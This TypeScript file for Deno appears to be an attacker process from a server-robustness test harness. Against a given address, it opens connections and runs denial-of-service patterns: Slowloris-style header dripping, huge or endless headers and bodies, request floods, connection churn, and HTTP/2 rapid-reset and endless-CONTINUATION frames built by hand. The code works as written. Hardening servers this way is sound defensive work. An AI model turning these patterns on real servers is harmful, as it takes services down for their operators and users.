/**
 * One who means ill, as a process of its own. Arguments: the probe's address, what to do, how many
 * connections, and a path. Writes `ready` when all connections stand (or have been refused), and
 * goes on until it is killed.
 */
import { bytesOf, send } from "./bytes.ts";
import { ODDITIES } from "./oddities.ts";

type Attack = (connection: Deno.Conn) => Promise<unknown>;

const [address, shape, count, path = "/"] = Deno.args;
const { hostname, port } = new URL(address);
const many = Number(count);
const connections: Deno.Conn[] = [];

const HALF = `GET ${path} HTTP/1.1\r\nHost: probe\r\n`;
const GET = `${HALF}\r\n`;

const HTTP2 = `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${frame(4, 0, 0, "")}`;
/** GET, http, and the path, as HTTP/2 packs them. */
const PACKED = `\x82\x86\x04${String.fromCharCode(path.length)}${path}\x41\x05probe`;

const SHAPES: Record<string, Attack> = {
  /** Says nothing. */
  idle: () => Promise.resolve(),
  /** Begins a request and never ends it. */
  half: (connection) => send(connection, HALF),
  /** The same with as many headers as are taken. */
  halfOfMany: (connection) => send(connection, HALF + headers(60 * 1024)),
  /** Begins a request, and sends another header each second. */
  async loris(connection) {
    await send(connection, HALF);
    drip(connection);
  },
  /** A request with headers that nobody should take. */
  hugeHeader: (connection) => repeat(connection, HALF + headers(1024 * 1024)),
  /** Headers without end. */
  endlessHeaders: (connection) => repeat(connection, headers(8 * 1024)),
  /** A body without end, which nobody has asked for. */
  async endlessBody(connection) {
    await send(
      connection,
      `POST ${path} HTTP/1.1\r\nHost: probe\r\nContent-Length: 1${"0".repeat(9)}\r\n\r\n`,
    );
    repeat(connection, "x".repeat(64 * 1024));
  },
  /** Asks and never reads the answer. */
  unread: (connection) => send(connection, GET),
  /** Asks often, without reading an answer. */
  unreadOften: (connection) => repeat(connection, GET.repeat(100)),
  /** HTTP/2: asks without end, and takes each question back at once. */
  async takeBack(connection) {
    await send(connection, HTTP2);
    let stream = -1;
    goOn(connection, () => {
      stream += 2;
      return send(connection, frame(1, 5, stream, PACKED) + frame(3, 0, stream, "\0\0\0\x08"));
    });
  },
  /** HTTP/2: asks as often as may be at once, and lets nothing come back. */
  async unreadStreams(connection) {
    await send(connection, HTTP2 + frame(4, 0, 0, "\0\x04\0\0\0\0"));
    for (let stream = 1; stream < 200; stream += 2) {
      await send(connection, frame(1, 5, stream, PACKED));
    }
  },
  /** HTTP/2: headers that go on in frames without end. */
  async continued(connection) {
    await send(connection, HTTP2 + frame(1, 1, 1, PACKED));
    goOn(
      connection,
      () => send(connection, frame(9, 0, 1, `\0\x01x\x7f\x81\x06${"a".repeat(1e3)}`)),
    );
  },
};

/** A frame of HTTP/2. */
function frame(type: number, flags: number, stream: number, payload: string): string {
  const numbers = [payload.length >> 16, payload.length >> 8, payload.length, type, flags];
  const id = [stream >> 24, stream >> 16, stream >> 8, stream];
  return String.fromCharCode(...[...numbers, ...id].map((each) => each & 255)) + payload;
}

/** Asks as fast as it can, and reads the answers. */
async function flood(): Promise<never> {
  const accept = path === "/" ? "text/html" : "*/*";
  for (let nth = 0;; nth++) {
    // A page that is asked for anew each time is not one that is kept.
    const url = new URL(path === "/" ? `/?before=${1e6 + nth}` : path, address);
    try {
      await (await fetch(url, { headers: { accept } })).bytes();
    } catch {
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
  }
}

/** Opens a connection, asks, and leaves, without end. */
async function churn(requests: string[]): Promise<never> {
  for (let nth = 0;; nth++) {
    try {
      using connection = await Deno.connect({ hostname, port: Number(port) });
      await send(connection, requests[nth % requests.length]);
      // Half of them do not wait for the answer.
      if (nth % 2 === 0) await connection.read(new Uint8Array(16 * 1024));
    } catch {
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
  }
}

function headers(bytes: number): string {
  const lines = Array.from(
    { length: Math.max(1, Math.floor(bytes / 1024)) },
    (_, i) => `X-${i}: ${"a".repeat(1000)}\r\n`,
  );
  return lines.join("");
}

function goOn(connection: Deno.Conn, again: () => Promise<void>): Promise<void> {
  (async () => {
    for (;;) {
      await again();
      // The others want to go on too.
      await new Promise((resolve) => setTimeout(resolve));
    }
  })().catch(() => connections.splice(connections.indexOf(connection), 1));
  return Promise.resolve();
}

function repeat(connection: Deno.Conn, text: string): Promise<void> {
  const bytes = bytesOf(text);
  return goOn(connection, () => send(connection, bytes));
}

function drip(connection: Deno.Conn): void {
  const timer = setInterval(() => {
    send(connection, "X-a: b\r\n").catch(() => clearInterval(timer));
  }, 1_000);
}

const LOOPS: Record<string, () => Promise<never>> = {
  flood,
  churn: () => churn([GET]),
  /** Asks for what nobody should ask for. */
  oddities: () => churn(ODDITIES.map(({ request }) => request)),
};

for (let nth = 0; nth < many; nth++) {
  if (shape in LOOPS) {
    LOOPS[shape]();
    continue;
  }
  try {
    const connection = await Deno.connect({ hostname, port: Number(port) });
    connections.push(connection);
    // Not awaited: who is not read from would wait for ever.
    SHAPES[shape](connection).catch(() => {});
  } catch {
    // Refused: there is no room for more.
  }
}
console.log("ready");
setInterval(() => {}, 1_000);
